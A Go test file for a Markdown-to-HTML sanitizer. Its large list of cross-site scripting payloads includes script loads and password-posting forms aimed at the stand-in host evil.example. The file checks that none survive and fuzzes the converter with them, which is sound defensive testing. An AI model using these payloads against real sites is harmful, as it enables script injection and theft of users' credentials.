package markdown

import (
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// attacks try to run, load, style, post, cover or name something. They are written after the collections of OWASP (XSS
// Filter Evasion Cheat Sheet), Cure53 (mutation XSS) and CommonMark's own dark corners.
var attacks = []string{
	// plain, and spelt to escape a search
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/src=data:,alert(1)>`, `<script >alert(1)</script >`, "<script\n>alert(1)</script\n>", `<<script>alert(1)//<</script>`, `<script`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>", "<\x00script>alert(1)</script>", `</script><script>alert(1)</script>`, `<script>alert(1)`,
	`<script x>alert(1)</script 1=2`, `"><script>alert(1)</script>`, `%3Cscript%3Ealert(1)%3C/script%3E`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
	"＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",

	// handlers
	`<img src=x onerror=alert(1)>`, `<img src=x:alert(alt) onerror=eval(src) alt=xss>`, `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
	`<img/src="x"/onerror=alert(1)>`, "<img src=x\nonerror=alert(1)>", "<img src=x\x0conerror=alert(1)>", "<img src=`x`onerror=alert(1)>",
	`<img src="x" alt="<script>alert(1)</script>">`, `<img alt="--><script>alert(1)</script>" src="https://e.example/">`,
	`<img src='https://e.example/"><script>alert(1)</script>'>`, `<img src=https://e.example/%22onmouseover=alert(1)>`,
	`<b onmouseover=alert(1)>b</b>`, `<b/onclick=alert(1)>b</b>`, `<a onclick=alert(1) href=https://e.example>a</a>`, `<details ontoggle=alert(1) open>`,
	`<body onload=alert(1)>`, `<BODY BACKGROUND="javascript:alert(1)">`, `<input autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>`,
	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<p style="animation:x" onanimationstart=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`, `<custom-tag onpointerenter=alert(1)>x</custom-tag>`, `<hr onclick=alert(1)>`, `<br/onclick=alert(1)>`,

	// addresses
	`<a href="javascript:alert(1)">a</a>`, `<a href="JaVaScRiPt:alert(1)">a</a>`, `<a href=" javascript:alert(1)">a</a>`,
	`<a href="java&#x0A;script:alert(1)">a</a>`, `<a href="java&#9;script:alert(1)">a</a>`, `<a href="java&Tab;script:alert(1)">a</a>`,
	`<a href="jav&#x0D;ascript:alert(1)">a</a>`, `<a href="java&NewLine;script&colon;alert(1)">a</a>`, `<a href="&#1;javascript:alert(1)">a</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>`, `<a href="&#x6A&#x61&#x76&#x61script:alert(1)">a</a>`,
	`<a href="&#0000106avascript:alert(1)">a</a>`, "<a href=\"\x01javascript:alert(1)\">a</a>", "<a href=\"java\x00script:alert(1)\">a</a>",
	"<a href=\"\u00a0javascript:alert(1)\">a</a>", "<a href=\"\u2028javascript:alert(1)\">a</a>", "<a href=\"\ufeffjavascript:alert(1)\">a</a>",
	`<a href="javascript&#58;alert(1)">a</a>`, `<a href='vbscript:msgbox(1)'>a</a>`, `<a href="livescript:x">a</a>`, `<a href="mocha:x">a</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">a</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>`,
	`<a href="feed:javascript:alert(1)">a</a>`, `<a href="view-source:javascript:alert(1)">a</a>`, `<a href="jar:https://e.example!/">a</a>`,
	`<a href="blob:https://e.example/1">a</a>`, `<a href="file:///etc/passwd">a</a>`, `<a href="filesystem:https://e.example/">a</a>`,
	`<a href="//evil.example">a</a>`, `<a href="\\evil.example">a</a>`, `<a href="/\evil.example">a</a>`, `<a href="#p/abc">a</a>`, `<a href="?x">a</a>`,
	`<a href="https:javascript:alert(1)">a</a>`, `<a href="https://e.example/" target="_top" rel="opener">a</a>`, `<a href="https://e.example" ping="https://evil.example">a</a>`,
	`<a href="https://e.example" download>a</a>`, `<a href="https://e.example" href="javascript:alert(1)">a</a>`, `<a href="http://&#x6A;avascript:alert(1)@e.example">a</a>`,
	`<a xlink:href="javascript:alert(1)">a</a>`, `<a formaction=javascript:alert(1)>a</a>`, `<a name=stage id=stage class=main style=color:red>a</a>`,
	`[a](javascript:alert(1))`, `[a](JAVASCRIPT:alert(1))`, `[a](java&#x0A;script:alert(1))`, `[a](<javascript:alert(1)>)`, `[a](\javascript:alert(1))`,
	`[a](&#106;avascript:alert(1))`, `[a](data:text/html;base64,PHNjcmlwdD4=)`, `[a](vbscript:x "t")`, "[a](\x01javascript:alert(1))", `[a](javascript&colon;alert(1))`,
	`[a](https://e.example "onclick=alert(1)")`, `[a](https://e.example 't" onclick="alert(1)')`, `[a](https://e.example/"onclick="alert(1))`,
	"[a][r]\n\n[r]: javascript:alert(1)", "[a][r]\n\n[r]: <java\tscript:alert(1)>", `<javascript:alert(1)>`, `<data:text/html,x>`, `<vbscript:x>`, `<x:y:javascript>`,
	`[a](//evil.example)`, `[a](#top)`, `[a](notes.md)`, `www.e.example/<script>alert(1)</script>`, `https://e.example/"onmouseover="alert(1)`,
	`[![x](javascript:alert(1))](javascript:alert(1))`, `[<img src=x onerror=alert(1)>](https://e.example)`, `<a href="https://a.example">[b](https://b.example)</a>`,

	// images
	`![a](https://e.example/i.png)`, `![a](http://e.example/i.png "title")`, `![a](data:image/svg+xml;base64,PHN2Zz4=)`, `![a](javascript:alert(1))`,
	`![<script>alert(1)</script>](https://e.example/i.png)`, `![a"onerror="alert(1)](x)`, `![a](x"onerror="alert(1))`, `![a](//e.example/i.png)`,
	`<img srcset="https://e.example/i.png 1x">`, `<picture><source srcset="https://e.example/i.png"><img></picture>`, `<img src="https://e.example/i.png" lowsrc="javascript:x">`,
	`<image src="https://e.example/i.png" onerror=alert(1)>`, `<input type=image src=https://e.example/i.png>`, `<table background="https://e.example/i.png"><td background="x">`,
	`<video src=https://e.example/v poster=https://e.example/i.png autoplay></video>`, `<audio src=https://e.example/a autoplay>`, `<track src=https://e.example/t>`,
	`<link rel=preload href=https://e.example>`, `<link rel=stylesheet href=https://e.example>`, `<body background=https://e.example/i.png>`, `<bgsound src=https://e.example/a>`,

	// other documents, forms, styles
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe><script>alert(1)</script>`, `<frameset><frame src=x></frameset>`,
	`<object data="javascript:alert(1)"></object>`, `<object><param name=x value=y><script>alert(1)</script>`, `<embed src=https://e.example/x.swf>`, `<applet code=x></applet>`, `<portal src=x>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<base href="https://evil.example/">`, `<form action=https://evil.example><input name=p type=password><button>Go</button></form>`,
	`<button form=paste-form formaction=https://evil.example>Go</button>`, `<input type=checkbox checked id=create>`, `<input type="checkbox" type=text>`, `<input type=text type=checkbox>`, `<INPUT/TYPE=checkbox/onclick=alert(1)>`, "- [x] <input autofocus onfocus=alert(1)>", "- [ ] [x](javascript:alert(1))", `<textarea form=paste-form name=x></textarea>`, `<select><option>x</select>`,
	`<style>*{background:url(https://evil.example)}</style>`, `<style>@import "https://evil.example";</style>`, `<p style="position:fixed;inset:0">`, `<p style="background:url(javascript:x)">`,
	`<b class="main trouble" id="create">x</b>`, `<p id="verdict" name="stage">x</p>`, `<code class="language-go main">x</code>`, `<code class="main">x</code>`, "```go\" onclick=\"alert(1)\nx\n```",
	"```x y\nx\n```", "``` <script>\nx\n```", "```\"><script>alert(1)</script>\n```", `<dialog open>x</dialog>`, `<slot name=x>`, `<template><script>alert(1)</script></template>`,
	`<ol start="javascript:1"><li>x</ol>`, `<td align="left;x">`, `<h1 hidden>x</h1>`, `<b contenteditable>x</b>`, `<b tabindex=1 accesskey=s>x</b>`, `<b popover popovertarget=x>x</b>`, `<b is=x slot=y part=z>x</b>`,

	// mutation: what one parser reads as text, another as elements
	`<svg><script>alert(1)</script></svg>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><foreignObject><body onload=alert(1)>`, `<svg><use href="data:image/svg+xml,x#x"/></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<title><p title="</title><script>alert(1)</script>">`, `<textarea><p title="</textarea><script>alert(1)</script>">`, `<noembed><p title="</noembed><script>alert(1)</script>">`,
	`<plaintext><script>alert(1)</script>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>", `<table><script>alert(1)</script><td><a href=javascript:alert(1)>x`,
	`<!--><script>alert(1)</script>-->`, `<!--[if IE]><script>alert(1)</script><![endif]-->`, `<!-- --!><script>alert(1)</script> -->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml <script>alert(1)</script> ?>`, `<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>`,
	`<!x <script>alert(1)</script>>`, `</ <script>alert(1)</script>>`, `<a title="--><script>alert(1)</script>">x</a>`, `<b title='<a href="javascript:alert(1)">'>x</b>`, `<q cite="javascript:alert(1)">x</q>`, `<del cite="javascript:alert(1)" datetime=x>x</del>`,
	"`<script>alert(1)</script>`", "    <script>alert(1)</script>", "> <script>\n> alert(1)\n> </script>", "- <script>\n- alert(1)</script>", "| <script> | alert(1) |\n|---|---|\n| </script> | <img src=x onerror=alert(1)> |",
	"# <script>alert(1)</script>", "*<b*>alert</b*>", "[<b>](https://e.example)</b>", "~~<script>~~alert(1)~~</script>~~", "\\<script>alert(1)\\</script>", "<b\n\nonclick=alert(1)>", "&#60;script&#62;alert(1)&#60;/script&#62;",
}

func TestAttacks(t *testing.T) {
	for _, attack := range attacks {
		// By itself, within other text, and after what may change how it is read.
		for _, around := range []string{"%s", "words %s words", "- %s\n\n<details>\n\n%[1]s", "<div>%s</div>", "<b title=\"%s\">%[1]s", "<textarea>%s", "<svg>%s</svg>", "<math><mi>%s", "<!-- %s --> %[1]s"} {
			text := fmt.Sprintf(around, attack)
			if wrong := wrong(make(t, text)); wrong != "" {
				t.Errorf("%q\nbecame %q\nwhich has %s", text, make(t, text), wrong)
			}
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	for _, c := range becomes {
		f.Add(c.text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4<<10 {
			t.Skip("long texts are slow and nothing more")
		}
		made := make(t, text)
		if wrong := wrong(made); wrong != "" {
			t.Fatalf("%q has %s", made, wrong)
		}
	})
}

func make(t *testing.T, text string) string {
	t.Helper()
	made, err := HTML(text)
	if err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	return made
}

// allowed are the elements that may be on the page, each with its attributes and what those may be.
var allowed = func() map[string]map[string]*regexp.Regexp {
	elements := map[string]map[string]*regexp.Regexp{
		"a": {
			"href":   regexp.MustCompile(`^(http|https|mailto):`),
			"rel":    regexp.MustCompile(`^nofollow noreferrer( noopener)?$`),
			"target": regexp.MustCompile(`^_blank$`),
		},
		"ol":   {"start": regexp.MustCompile(`^\d+$`)},
		"th":   {"align": regexp.MustCompile(`^(left|center|right)$`)},
		"td":   {"align": regexp.MustCompile(`^(left|center|right)$`)},
		"code": {"class": regexp.MustCompile(`^language-[^\s"<>]+$`)},
		"input": {
			"type": regexp.MustCompile(`^checkbox$`), "aria-label": regexp.MustCompile(`^(to do|done)$`),
			"checked": regexp.MustCompile(`^$`), "disabled": regexp.MustCompile(`^$`),
		},
	}
	for _, plain := range strings.Fields(`h4 h5 h6 p br hr blockquote pre details summary ul li dl dt dd table thead tbody
		tr em strong i b u s del ins mark small sub sup q kbd samp var`) {
		elements[plain] = nil
	}
	return elements
}()

// wrong says what a browser would find in made that may not be there, "" if nothing.
func wrong(made string) string {
	for z := html.NewTokenizer(strings.NewReader(made)); z.Next() != html.ErrorToken; {
		t := z.Token()
		n := &html.Node{Type: html.TextNode, Data: t.Data, Attr: t.Attr}
		switch t.Type {
		case html.StartTagToken, html.SelfClosingTagToken:
			n.Type = html.ElementNode
		case html.EndTagToken:
			if _, known := allowed[t.Data]; !known {
				return "an end of " + t.Data
			}
		case html.CommentToken, html.DoctypeToken:
			n.Type = html.CommentNode
		}
		if what := wrongNode(n); what != "" {
			return what
		}
	}
	// Once more as a tree, and again as the tree of that, written: a parser that mends HTML may see what was text before.
	for range 2 {
		nodes, err := html.ParseFragment(strings.NewReader(made), &html.Node{Type: html.ElementNode, DataAtom: atom.Div, Data: "div"})
		if err != nil {
			return "" // nested too deep for the parser, and for browsers, which have the same limit
		}
		var again strings.Builder
		for _, n := range nodes {
			for d := range nodesIn(n) {
				if what := wrongNode(d); what != "" {
					return what
				}
			}
			if err := html.Render(&again, n); err != nil {
				return err.Error()
			}
		}
		made = again.String()
	}
	return ""
}

func nodesIn(n *html.Node) func(yield func(*html.Node) bool) {
	return func(yield func(*html.Node) bool) {
		if !yield(n) {
			return
		}
		for d := range n.Descendants() {
			if !yield(d) {
				return
			}
		}
	}
}

func wrongNode(n *html.Node) string {
	if n.Type == html.TextNode {
		return ""
	}
	attributes, known := allowed[n.Data]
	if n.Type != html.ElementNode || !known || n.Namespace != "" {
		return fmt.Sprintf("a %s %q", []string{"error", "text", "document", "element", "comment", "doctype", "raw"}[n.Type], n.Data)
	}
	for _, a := range n.Attr {
		if what := attributes[a.Key]; what == nil || !what.MatchString(a.Val) || a.Namespace != "" {
			return fmt.Sprintf("%s=%q on %s", a.Key, a.Val, n.Data)
		}
	}
	switch n.Data {
	case "input":
		if attribute(n, "type") != "checkbox" || !slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "disabled" }) {
			return "a control that can be used"
		}
		return ""
	case "a":
	default:
		return ""
	}
	href := attribute(n, "href")
	address, err := url.Parse(href)
	switch {
	case err != nil:
		return fmt.Sprintf("a link to %q: %v", href, err)
	case strings.ContainsFunc(href, func(r rune) bool { return r <= ' ' || r == 0x7f }):
		return fmt.Sprintf("a link to %q, with white space or controls in it", href)
	case address.Host != "" && (attribute(n, "target") != "_blank" || !strings.Contains(attribute(n, "rel"), "noopener")):
		return fmt.Sprintf("a link to %q that does not open a window of its own", href)
	}
	return ""
}

func attribute(n *html.Node, key string) string {
	i := slices.IndexFunc(n.Attr, func(a html.Attribute) bool { return a.Key == key })
	if i < 0 {
		return ""
	}
	return n.Attr[i].Val
}

const (
	open   = `<input type="checkbox" disabled="" aria-label="to do">`
	ticked = `<input type="checkbox" disabled="" checked="" aria-label="done">`
)

const out = ` rel="nofollow noreferrer noopener" target="_blank"`

var becomes = []struct{ name, text, want string }{
	{"nothing", "", ""},
	{"words", "one *two* **three** `four` ~~five~~", "<p>one <em>two</em> <strong>three</strong> <code>four</code> <del>five</del></p>"},
	{"headings", "# one\n\nthree\n---\n### five\n##### six", "<h4>one</h4> <h5>three</h5> <h6>five</h6> <h6>six</h6>"},
	{"headings of HTML", "<H2 id=a class=b>one</H2>", "<h5>one</h5>"},
	{"lists", "- a\n- b\n\n7. c", `<ul> <li>a</li> <li>b</li> </ul> <ol start="7"> <li>c</li> </ol>`},
	{"tasks", "- [x] a\n- [ ] b", `<ul> <li>` + ticked + ` a</li> <li>` + open + ` b</li> </ul>`},
	{"no task", "[x] a\n\n- b [ ]", `<p>[x] a</p> <ul> <li>b [ ]</li> </ul>`},
	{"a check box of HTML can't be ticked", `<input type=CheckBox checked=no id=create onclick=x> a`, "<p>" + ticked + " a</p>"},
	{"other controls are gone", `a <input value=b> <input type=password disabled> c`, `<p>a c</p>`},
	{"a table", "|a|b|\n|-|-:|\n|1|2|", `<table> <thead> <tr> <th>a</th> <th align="right">b</th> </tr> </thead> <tbody> <tr> <td>1</td> <td align="right">2</td> </tr> </tbody> </table>`},
	{"code", "```c++\na < b && c\n```", `<pre><code class="language-c++">a &lt; b &amp;&amp; c </code></pre>`},
	{"a quotation", "> a\n> b", "<blockquote> <p>a b</p> </blockquote>"},
	{"a link", `[a](https://e.example/?q=1&r=%20)`, `<p><a href="https://e.example/?q=1&amp;r=%20"` + out + `>a</a></p>`},
	{"a bare link", `see https://e.example/x.`, `<p>see <a href="https://e.example/x"` + out + `>https://e.example/x</a>.</p>`},
	{"an address of mail", `[a](mailto:a@e.example)`, `<p><a href="mailto:a@e.example" rel="nofollow noreferrer">a</a></p>`},
	{"a link within the text", `[a](#b)`, `<p>a</p>`},
	{"an image", `![the words](https://e.example/i.png)`, `<p><a href="https://e.example/i.png"` + out + `>the words</a></p>`},
	{"an image of HTML", `a <img alt="the words" src="HTTP://e.example/i.png">`, `<p>a <a href="http://e.example/i.png"` + out + `>the words</a></p>`},
	{"an image without words", `![](https://e.example/i.png)`, `<p><a href="https://e.example/i.png"` + out + `>image</a></p>`},
	{"an image in a link", `[![the words](https://e.example/i.png)](https://e.example)`, `<p><a href="https://e.example"` + out + `>the words</a></p>`},
	{"an image after a link", `[a](https://a.example) ![b](https://b.example)`, `<p><a href="https://a.example"` + out + `>a</a> <a href="https://b.example"` + out + `>b</a></p>`},
	{"an image from nowhere", `![the words](data:image/png;base64,AA) ![others](i.png)`, `<p>the words others</p>`},
	{"harmless HTML", "press <kbd>A</kbd><br>x<sup>2</sup>", "<p>press <kbd>A</kbd><br>x<sup>2</sup></p>"},
	{"HTML that is not wanted leaves its words", `<div align="center"><font color=red>words</font></div>`, "words"},
	{"a tag that would swallow the rest is text", "use <script> here\n\nand go on", "<p>use &lt;script&gt; here</p> <p>and go on</p>"},
	{"so is one with an end", `<title>a</title>b`, "&lt;title&gt;a&lt;/title&gt;b"},
	{"a comment is not seen", "a <!-- b --> c", "<p>a c</p>"},
	{"bytes that are no text", "a\x00b\xffc", "<p>a\uFFFDb\uFFFDc</p>"},
}

func TestBecomes(t *testing.T) {
	for _, c := range becomes {
		t.Run(c.name, func(t *testing.T) {
			got := strings.Join(strings.Fields(make(t, c.text)), " ")
			if got = strings.ToValidUTF8(got, "\uFFFD"); got != c.want {
				t.Errorf("%q\nbecame %s\nwant   %s", c.text, got, c.want)
			}
		})
	}
}

// What is nested deep, or long, or never ended, comes to an end.
func TestLargeTexts(t *testing.T) {
	for name, part := range map[string]string{
		"one line": "word ", "emphasis": "*a **b ", "brackets": "[", "images": "![", "links": "[a](https://e.example) ", "HTML": "<b>", "ends": "</b>",
		"code": "`", "rows": "|a|b|\n", "lists": "- a\n", "entities": "&amp;", "tags": "<script>", "quotations": ">", "attributes": `<b a="`, "angles": "<",
	} {
		t.Run(name, func(t *testing.T) {
			text := strings.Repeat(part, 64<<10/len(part))
			if made := make(t, text); made == "" {
				t.Error("nothing is left of it")
			}
		})
	}
}
